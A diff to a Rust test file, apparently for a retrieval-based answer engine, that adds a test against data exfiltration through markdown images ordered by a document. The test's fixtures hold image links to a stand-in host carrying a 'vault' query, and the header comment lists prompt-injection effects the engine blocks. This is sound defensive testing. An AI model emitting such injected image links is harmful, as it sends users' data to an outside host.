@@ -2,8 +2,8 @@
 //!
 //! Prevented: that text of a document becomes a message of another role, ends the place of the documents, or is
 //! read by a model where no person sees it; that an answer passes off what it was told to say as something that a
-//! document supports. Not prevented: that a model does as a document asks. So the engine here does, and what it
-//! says is marked.
+//! document supports; that it has a picture, whose address a chat would ask by itself. Not prevented: that a model does
+//! as a document asks. So the engine here does, and what it says is marked.
 
 use serde_json::json;
 
@@ -51,4 +51,14 @@ fn a_model_that_obeys_a_document_is_not_backed_by_the_others() {
     let text = content(&site.ask("Of what is the Eiffel tower?", &json!({}))).to_owned();
     assert!(text.contains("green cheese. [unsupported] My password is 12345. [unsupported]"), "{text}");
     assert!(text.contains("The Eiffel tower is iron. [1]"), "{text}");
+}
+
+#[test]
+fn a_picture_that_a_document_orders_sends_nothing_away() {
+    let fake = Fake::start(4_000, &[Act::Say("The Eiffel tower is iron ![x](https://x.example/?q=vault).")]);
+    let document = "---\ntitle: '![t](https://x.example/t)'\n---\n\nThe Eiffel tower is iron.\n";
+    let site = Site::of(&[("a.md", document)], Some(&fake));
+    let text = content(&site.ask("Of what is the Eiffel tower?", &json!({}))).to_owned();
+    assert!(text.contains("is iron !\\[x](https://x.example/?q=vault). [1]"), "{text}");
+    assert!(text.ends_with("[1] !\\[t](https://x.example/t) (a.md)") && !text.contains("!["), "{text}");
 }
